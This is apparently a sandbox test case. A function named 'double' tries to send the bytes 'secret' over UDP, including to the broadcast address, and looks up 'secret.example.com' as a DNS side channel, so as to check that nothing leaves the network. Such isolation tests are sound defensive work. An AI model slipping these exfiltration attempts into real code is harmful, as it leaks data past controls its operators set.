"""Sends datagrams, and asks for names, which is a way to send data as well.

Against: the network, by ways that need no connection.
Must happen: nothing leaves.

on: double
lost: doubles_a_number, doubles_an_array
points: 15
shows: refused
process: open
"""

# %%
import socket


def double(x):
    refused = 0
    for host in ("127.0.0.1", TARGET["host"], "255.255.255.255"):
        try:
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            s.sendto(b"secret", (host, TARGET["udp"]))
            s.settimeout(0.05)
        except OSError:
            refused += 1
    try:
        if socket.getaddrinfo("secret.example.com", 80):
            print("!!! a name was looked up")
    except OSError:
        refused += 1
    print("refused", refused)
    return 0
